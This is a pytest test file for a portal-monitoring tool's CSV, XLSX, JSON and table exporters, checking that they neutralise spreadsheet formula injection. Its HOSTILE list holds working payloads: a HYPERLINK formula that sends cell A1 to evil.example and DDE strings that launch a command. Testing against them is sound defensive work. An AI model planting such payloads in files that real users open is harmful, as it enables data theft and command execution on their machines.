"""Exports: CSV with a BOM for Excel, XLSX read back with openpyxl, JSON, the CJK-aware table."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pytest

from monitor.exports import (display_width, format_table, neutralise, write_csv, write_json,
                             write_xlsx)
from monitor.regressions import REGRESSION_COLUMNS, Regression
from monitor.clock import SHANGHAI

AT = datetime(2024, 10, 20, 9, 30, tzinfo=SHANGHAI)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def regression(**kw) -> Regression:
    values = dict(portal_id="zz-city", name="郑州市人民政府", region="henan", check="homepage_fresh",
                  baseline_value=1, baseline_at=AT, current_value=21, current_at=AT,
                  first_failed_at=AT, days_failing=7,
                  evidence={"url": "https://www.zhengzhou.gov.cn/", "newest": "2024-09-29",
                            "title": "关于做好秋季防火工作的通知"},
                  baseline_kind="baseline", recovered=False)
    values.update(kw)
    return Regression(**values)


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_prefixes_formula_starts(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["国务院信息", "https://a.gov.cn/", " =x", "", 5, -1, None, 2.5])
def test_neutralise_leaves_the_rest(value):
    assert neutralise(value) == value


def test_csv_has_bom_chinese_and_neutralised_cells(tmp_path):
    rows = [regression(), {"portal_id": "evil", "name": HOSTILE[0], "region": HOSTILE[1],
                           "check": HOSTILE[2], "evidence": {"title": HOSTILE[3]},
                           "current_value": -3}]
    path = tmp_path / "r.csv"
    assert write_csv(rows, path, REGRESSION_COLUMNS) == 2
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == list(REGRESSION_COLUMNS)
    first = dict(zip(parsed[0], parsed[1]))
    assert first["name"] == "郑州市人民政府" and first["baseline_at"] == AT.isoformat()
    assert json.loads(first["evidence"])["title"] == "关于做好秋季防火工作的通知"
    assert first["recovered"] == "false"
    evil = dict(zip(parsed[0], parsed[2]))
    assert evil["name"] == "'" + HOSTILE[0]
    assert evil["region"] == "'" + HOSTILE[1]
    assert evil["check"] == "'-1+1"
    assert evil["evidence"].startswith("{")  # the JSON cell does not start with a formula char
    assert evil["current_value"] == "'-3"  # only text is written to CSV: Excel would read -3
    assert evil["baseline_at"] == ""


def test_csv_to_text_and_binary_streams():
    text_stream = io.StringIO()
    write_csv([{"a": "甲", "b": "@x"}], text_stream, ["a", "b"])
    assert text_stream.getvalue() == "\ufeffa,b\r\n甲,'@x\r\n"
    binary = io.BytesIO()
    write_csv([{"a": "甲"}], binary, ["a"], bom=False)
    assert binary.getvalue() == "a\r\n甲\r\n".encode()
    assert not binary.closed


def test_xlsx_reads_back_with_chinese_and_no_formulas(tmp_path):
    path = tmp_path / "r.xlsx"
    rows = [regression(), regression(portal_id="evil", name=HOSTILE[0], region=HOSTILE[2],
                                     check=HOSTILE[3], current_value="\x07bell\x00")]
    assert write_xlsx(rows, path, REGRESSION_COLUMNS, sheet_title="退步/regressions") == 2
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet.title == "退步_regressions"
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == list(REGRESSION_COLUMNS)
    first = dict(zip(values[0], values[1]))
    assert first["name"] == "郑州市人民政府"
    assert json.loads(first["evidence"])["title"] == "关于做好秋季防火工作的通知"
    assert first["baseline_at"] == datetime(2024, 10, 20, 9, 30)  # Shanghai wall-clock time
    assert first["days_failing"] == 7
    evil = dict(zip(values[0], values[2]))
    assert evil["name"] == "'" + HOSTILE[0]
    assert evil["region"] == "'-1+1" and evil["check"] == "'" + HOSTILE[3]
    assert evil["current_value"] == "bell"  # control characters dropped (openpyxl rejects them)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.freeze_panes == "A2"


def test_json(tmp_path):
    stream = io.StringIO()
    assert write_json([regression()], stream, ["portal_id", "name", "baseline_at", "evidence"]) == 1
    data = json.loads(stream.getvalue())
    assert data == [{"portal_id": "zz-city", "name": "郑州市人民政府", "baseline_at": AT.isoformat(),
                     "evidence": regression().evidence}]
    assert "郑州" in stream.getvalue()  # not \u-escaped
    path = tmp_path / "r.json"
    write_json([{"d": date(2024, 1, 2), "s": {1}}], path)
    assert json.loads(path.read_text(encoding="utf-8")) == [{"d": "2024-01-02", "s": [1]}]


def test_table_aligns_cjk_and_strips_control_characters():
    rows = [{"name": "郑州市人民政府", "check": "homepage_fresh", "n": 7},
            {"name": "Zhengzhou", "check": "reachable\x1b[2J\nnext", "n": None}]
    text = format_table(rows, ["name", "check", "n"])
    lines = text.splitlines()
    assert "\x1b" not in text and len(lines) == 4
    # the second column starts at the same display column on every line
    starts = {display_width(line[: line.index(word)]) for line, word in
              zip(lines[2:], ["homepage_fresh", "reachable"])}
    assert starts == {display_width("郑州市人民政府") + 2}
    assert display_width(lines[1].split("  ")[0]) == 14
    cut = format_table([{"t": "国务院关于印发" * 20}], ["t"], max_width=10).splitlines()[2]
    assert display_width(cut) <= 10 and cut.endswith("…")
    assert format_table([], ["a", "b"]).splitlines() == ["a  b", "-  -"]
